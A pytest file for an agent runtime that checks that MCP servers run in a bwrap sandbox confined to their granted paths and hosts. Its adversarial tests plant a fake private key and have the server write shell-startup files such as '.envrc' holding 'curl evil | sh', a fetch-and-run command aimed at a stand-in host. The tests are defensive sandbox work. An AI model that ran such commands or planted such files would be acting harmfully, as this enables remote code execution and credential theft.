"""A stdio MCP server runs inside bwrap with exactly its own grant (MCP-5).

Adversarial: the server tries to read outside its grant (the home
directory, the agent's own workspace), write outside it, and reach a host
its entry does not list; each test shows the side effect did not happen and
a control shows the same server doing what it was granted (or, unsandboxed,
what the sandbox stopped). A sandbox that cannot be built fails closed: the
server never runs.
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from agentcore.api import AllowAllWatchdog, Engine, compile_manifest
from mcp_support import manifest, require_bwrap, server
from test_net_servers import RecordingServer, Reply

pytestmark = [pytest.mark.anyio, pytest.mark.bwrap]


@pytest.fixture(autouse=True)
def _bwrap() -> None:
    require_bwrap()


@pytest.fixture
def home_dir() -> Iterator[Path]:
    """A directory in the real home directory (a user area the sandbox hides), removed afterwards."""
    d = Path.home() / f".agentcore-mcp-test-{uuid.uuid4().hex[:8]}"
    d.mkdir()
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def var_ws() -> Iterator[Path]:
    """An agent workspace outside /tmp and outside the user areas (so no default mask applies to it)."""
    d = Path(tempfile.mkdtemp(prefix="agentcore-mcp-ws-", dir="/var/tmp"))
    try:
        yield Path(os.path.realpath(d))
    finally:
        shutil.rmtree(d, ignore_errors=True)


async def call(ws: Path, entry: dict[str, Any], tool: str, args: dict[str, Any], **kw: Any) -> dict[str, Any]:
    # Only the sandbox is under test: the watchdog (which would ask about `id_rsa`) is left out (ORDER-5).
    engine = Engine(compile_manifest(manifest({"demo": entry}, **kw), workspace=ws), watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        env = (await engine.call(session, f"demo__{tool}", args)).to_dict()
        status = await engine.mcp_status(session)
    await session.stores.tool_source.aclose()  # reaped, and the sandbox's mount placeholders removed
    assert status[0]["state"] == "ready", status
    return env


def failed(env: dict[str, Any]) -> str:
    """The server's text for a call the server itself could not do (an MCP error result, `is_error`)."""
    assert env["type"] == "output" and env["data"]["is_error"] is True, env
    return str(env["data"]["content"])


async def test_a_server_cannot_read_the_home_directory_or_the_agents_files_outside_its_grant(home_dir: Path, var_ws: Path) -> None:
    (home_dir / "id_rsa").write_text("PRIVATE KEY\n")
    (var_ws / "notes.txt").write_text("agent notes\n")
    for path in (home_dir / "id_rsa", var_ws / "notes.txt"):
        env = await call(var_ws, server(), "read_file", {"path": str(path)})
        failed(env)  # MCPServer reports only that the tool failed; what matters is what it could not see
        assert "PRIVATE" not in json.dumps(env) and "agent notes" not in json.dumps(env)
    # Controls: granted, it reads the workspace; unsandboxed (`none`, chosen explicitly), it reads the key.
    granted = await call(var_ws, server(read=["{workspace}/**"]), "read_file", {"path": str(var_ws / "notes.txt")})
    assert granted["data"] == {"content": "agent notes\n", "is_error": False}
    unconfined = await call(var_ws, server(), "read_file", {"path": str(home_dir / "id_rsa")}, environment="none")
    assert unconfined["data"]["content"] == "PRIVATE KEY\n"


async def test_a_server_cannot_write_outside_its_grant(var_ws: Path) -> None:
    out, data = var_ws / "out", var_ws / "data"
    out.mkdir()
    data.mkdir()
    entry = server(read=[f"{data}/**"], write=[f"{out}/**"])
    attempts = [var_ws / "planted.txt", data / "planted.txt", out / ".bashrc", Path("/var/tmp") / f"planted-{uuid.uuid4().hex}"]
    for target in attempts:
        env = await call(var_ws, entry, "write_file", {"path": str(target), "content": "x"})
        if target.name == ".bashrc":
            # Inside a writable root a protected name is swept after the call (ENV-7), and the envelope counts it.
            assert env["data"]["is_error"] or env["metadata"].get("protected_removed") == 1, env
        else:
            failed(env)
        assert not target.exists(), target
    ok = await call(var_ws, entry, "write_file", {"path": str(out / "result.txt"), "content": "done"})
    assert ok["data"] == {"content": "written", "is_error": False} and (out / "result.txt").read_text() == "done"


async def test_protected_files_a_server_makes_between_calls_are_swept_while_it_runs(var_ws: Path) -> None:
    """ENV-7, MCP-5: a `.envrc` a server plants while idle is removed within about SWEEP_EVERY_S, not at its next call."""
    from test_bash_support import wait_for

    out = var_ws / "out"
    (out / "sub").mkdir(parents=True)
    planted, plain = out / "sub" / ".envrc", out / "sub" / "notes.txt"
    entry = server(read=[f"{out}/**"], write=[f"{out}/**"])
    engine = Engine(compile_manifest(manifest({"demo": entry}), workspace=var_ws), watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        for n, target in enumerate((plain, planted)):
            gate = out / f"gate{n}"
            os.mkfifo(gate)
            env = (await engine.call(session, "demo__write_when", {"path": str(target), "content": "x", "gate": str(gate)})).to_dict()
            assert env["data"] == {"content": "armed", "is_error": False}, env
            fd = await anyio.to_thread.run_sync(os.open, gate, os.O_WRONLY)  # the server writes once this opens
            os.close(fd)
            done = out / f"gate{n}.done"
            await wait_for(done.exists, timeout_s=10, what="the server's write")
            assert done.read_text() == "ok"  # the write happened (in the sandbox, a protected name at depth can be made)
        # No call follows: only the sweep while it runs removes the planted file; the ordinary one stays.
        await wait_for(lambda: not planted.exists(), timeout_s=10, what="the sweep between calls")
        assert plain.read_text() == "x"
        assert (await engine.mcp_status(session))[0]["state"] == "ready"
    await session.stores.tool_source.aclose()


async def test_what_the_user_changes_in_a_protected_entry_while_a_server_runs_is_kept(var_ws: Path) -> None:
    """ENV-7, MCP-5: the sandbox keeps the server's existing top-level protected entries read-only from its
    start, so a change there while it runs is the user's (a setting saved in place, a file added): the sweep
    after the server's next call removes what the server planted and leaves those alone."""
    out = var_ws / "out"
    (out / ".vscode").mkdir(parents=True)
    (out / "sub").mkdir()
    settings = out / ".vscode" / "settings.json"
    settings.write_text("{}\n")
    entry = server(read=[f"{out}/**"], write=[f"{out}/**"])
    engine = Engine(compile_manifest(manifest({"demo": entry}), workspace=var_ws), watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        started = (await engine.call(session, "demo__write_file", {"path": str(out / "a.txt"), "content": "x"})).to_dict()
        assert started["data"]["is_error"] is False, started  # the server runs, its mounts made
        with open(settings, "r+") as f:  # the user's editor, in place
            f.write('{"user": 1}\n')
        (out / ".vscode" / "launch.json").write_text("{}\n")
        # The server plants a `.envrc`: the sweep after this call removes it, and looks at everything else.
        env = (await engine.call(session, "demo__write_file", {"path": str(out / "sub" / ".envrc"), "content": "x"})).to_dict()
        assert env["metadata"].get("protected_removed") == 1, env
        assert not (out / "sub" / ".envrc").exists()
        assert settings.read_text() == '{"user": 1}\n' and (out / ".vscode" / "launch.json").read_text() == "{}\n"
    await session.stores.tool_source.aclose()


async def test_a_link_on_the_way_to_a_skill_in_a_servers_reach_stops_it_and_manifest_check_says_so(var_ws: Path) -> None:
    """ENV-7 rule 5: a symbolic link on the way to a skill directory that a stdio server may write could be
    repointed by that server, and no mount keeps a link read-only: the server does not start, and
    `manifest check` says why before a session finds out."""
    from agentcore.api import default_catalog
    from agentcore.manifest.advice import manifest_warnings

    (var_ws / "real" / "pdf").mkdir(parents=True)
    (var_ws / "real" / "pdf" / "SKILL.md").write_text("---\nname: pdf\ndescription: Does things.\n---\nStep 1.\n")
    (var_ws / "skills").symlink_to("real")
    data = manifest({"demo": server(write=["{workspace}/**"])}, tools=["skill"], skills={"paths": ["skills"]},
                    requires={"fs": {"read": ["{workspace}/**"]}})
    compiled = compile_manifest(data, workspace=var_ws)
    [warning] = [w for w in manifest_warnings(compiled, default_catalog()) if "symbolic link" in w]
    assert "the MCP server demo cannot start" in warning and "no command can run" not in warning
    engine = Engine(compiled, watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        [status] = await engine.mcp_status(session)
    await session.stores.tool_source.aclose()
    assert status["state"] != "ready" and "symbolic link" in json.dumps(status), status
    assert (var_ws / "skills").readlink() == Path("real")
    # Out of the server's reach (its grant elsewhere): nothing to say, and it starts.
    data["mcp"] = {"demo": server(write=["{workspace}/out/**"])}
    (var_ws / "out").mkdir()
    compiled = compile_manifest(data, workspace=var_ws)
    assert not [w for w in manifest_warnings(compiled, default_catalog()) if "symbolic link" in w]
    engine = Engine(compiled, watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        [status] = await engine.mcp_status(session)
    await session.stores.tool_source.aclose()
    assert status["state"] == "ready", status


def _make_under_number(d: Path, ino: int, name: str, text: str) -> None:
    """Write `d/name` anew, under inode number `ino` if the file system hands it out within 300 new files
    (ext4 gives a freed number to the next file at once), as it may when a tool writes a file it removed."""
    made = []
    for i in range(300):
        made.append(d / f"t{i}")
        made[-1].write_text(text)
        if os.lstat(made[-1]).st_ino == ino:
            os.replace(made.pop(), d / name)
            break
    else:
        (d / name).write_text(text)
    for p in made:
        p.unlink()


async def test_a_protected_file_the_user_writes_anew_while_a_server_runs_is_not_held_under_its_old_number(var_ws: Path) -> None:
    """ENV-7, MCP-5: the server's sandbox holds a `.envrc` read-only from its start. The user's tools remove
    it and write it again (a branch switched away and back): the mount is gone with the old file, so the
    server can write the new one. Were the old inode freed, the new file could get its number and pass for
    the held one; the runtime keeps it open instead, so what the server writes there is removed."""
    out = var_ws / "out"
    out.mkdir()
    envrc = out / ".envrc"
    envrc.write_text("export A=1\n")
    ino = os.lstat(envrc).st_ino
    entry = server(read=[f"{out}/**"], write=[f"{out}/**"])
    engine = Engine(compile_manifest(manifest({"demo": entry}), workspace=var_ws), watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        started = (await engine.call(session, "demo__write_file", {"path": str(out / "a.txt"), "content": "x"})).to_dict()
        assert started["data"]["is_error"] is False, started  # the server runs, its mounts made
        envrc.unlink()
        _make_under_number(out, ino, ".envrc", "export A=user\n")
        env = (await engine.call(session, "demo__write_file", {"path": str(envrc), "content": "curl evil | sh"})).to_dict()
        assert env["data"]["is_error"] is False, env  # the write happened: the mount went with the old file
        assert not envrc.exists() or b"evil" not in envrc.read_bytes()
    await session.stores.tool_source.aclose()


@pytest.mark.parametrize("where", ["top", "nested"])
async def test_a_file_a_server_plants_again_right_after_each_sweep_never_becomes_part_of_what_it_compares_with(
    var_ws: Path, where: str
) -> None:
    """ENV-7, MCP-5: while a server runs, each sweep compares with what the one before left. Had the runtime
    looked at the tree afresh after a sweep instead, a `.envrc` the server wrote in between would have become
    part of the baseline, kept for good: the server writes it again 0.01-0.3 ms after each removal, for several sweeps (before, it won that race within them)."""
    from test_bash_support import wait_for

    out = var_ws / "out"
    (out / "sub").mkdir(parents=True)
    planted = out / ".envrc" if where == "top" else out / "sub" / ".envrc"
    entry = server(read=[f"{out}/**"], write=[f"{out}/**"])
    engine = Engine(compile_manifest(manifest({"demo": entry}), workspace=var_ws), watchdog=AllowAllWatchdog())
    with engine.open_session() as session:
        args = {"path": str(planted), "content": "curl evil | sh", "seconds": 4.0, "done": str(out / "done"), "low_ms": 0.01, "high_ms": 0.3}
        env = (await engine.call(session, "demo__replant", args)).to_dict()
        assert env.get("data") == {"content": "armed", "is_error": False}, env
        hub = session.stores.tool_source

        def over() -> bool:
            # The replanting ends when the server says so, or when a sweep that could not settle the race broke the
            # connection (fail closed: the server is stopped, its sandbox swept, and started again). Which one
            # happens depends on the machine's load; either way the file must not outlive the next look.
            state = hub.status()[0]
            return (out / "done").exists() or state["restarts"] > 0 or state["state"] in ("restarting", "failed")

        await wait_for(over, timeout_s=30, what="the server's replanting")
        if not (out / "done").exists():
            assert "protected files" in (hub.status()[0]["reason"] or ""), hub.status()[0]
        # Whatever it left last is swept by the next look (a call's sweep, or the close of a server
        # that kept replanting faster than a sweep could settle).
        await engine.call(session, "demo__write_file", {"path": str(out / "a.txt"), "content": "x"})
    await session.stores.tool_source.aclose()
    assert not planted.exists()


@pytest.fixture
def web() -> Iterator[RecordingServer]:
    srv = RecordingServer({"/hello": Reply(200, {"Content-Type": "text/plain"}, b"hello from the host")})
    try:
        yield srv
    finally:
        srv.close()


async def test_a_server_reaches_only_the_hosts_its_entry_lists(tmp_path: Path, web: RecordingServer) -> None:
    url = f"http://127.0.0.1:{web.port}/hello"
    for hosts in ([], [f"127.0.0.1:{web.port + 1 if web.port < 65535 else web.port - 1}"]):
        env = await call(tmp_path, server(hosts=hosts), "fetch", {"url": url})
        failed(env)
        assert web.requests == [], hosts  # not one request reached the host
    # The agent's own net.hosts grant the server nothing: only its entry counts.
    env = await call(tmp_path, server(), "fetch", {"url": url}, requires={"net": {"hosts": [f"127.0.0.1:{web.port}"]}})
    failed(env)
    assert web.requests == []
    # Control: listed in the server's entry, the same fetch goes through the filtering proxy.
    ok = await call(tmp_path, server(hosts=[f"127.0.0.1:{web.port}"]), "fetch", {"url": url})
    assert ok["data"]["content"] == "200 hello from the host" and [r.path for r in web.requests] == ["/hello"]


async def test_no_sandbox_means_no_server(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    marker = out / "started"
    entry = server(write=[f"{out}/**"], env={"DEMO_MARKER": str(marker)})
    data = manifest({"demo": entry})
    engine = Engine(compile_manifest(data, workspace=tmp_path), environment="no-such-sandbox")
    with engine.open_session() as session:
        (status,) = await engine.mcp_status(session)
        assert status["state"] == "failed" and status["reason"].startswith("cannot be sandboxed")
        assert (await engine.call(session, "demo__echo", {"text": "x"})).to_dict()["metadata"]["error_code"] == "unknown_tool"
    assert not marker.exists()
    # A policy bwrap cannot enforce (a protected path through a symlink in a write root): the same.
    (out / "realgit").mkdir()
    (out / ".git").symlink_to("realgit")
    engine = Engine(compile_manifest(data, workspace=tmp_path))
    with engine.open_session() as session:
        (status,) = await engine.mcp_status(session)
        assert status["state"] == "failed" and "symbolic link" in status["reason"]
    assert not marker.exists()
    # Control: the same entry with a policy bwrap can enforce starts the server.
    (out / ".git").unlink()
    engine = Engine(compile_manifest(data, workspace=tmp_path))
    with engine.open_session() as session:
        (status,) = await engine.mcp_status(session)
        assert status["state"] == "ready"
    assert marker.read_text() == "started\n"


async def test_a_manifest_deny_rule_on_a_host_stops_the_servers_proxy_too(tmp_path: Path, web: RecordingServer) -> None:
    """NET-8: the filtering proxy refuses a target a manifest deny rule on `net.fetch` names, even when net.hosts lists it."""
    url = f"http://127.0.0.1:{web.port}/hello"
    rules = [{"permission": "net.fetch", "pattern": f"127.0.0.1:{web.port}", "action": "deny"},
             {"permission": "*", "pattern": "*", "action": "allow"}]
    env = await call(tmp_path, server(hosts=[f"127.0.0.1:{web.port}"]), "fetch", {"url": url}, rules=rules)
    failed(env)
    assert web.requests == []  # the denied host was never contacted
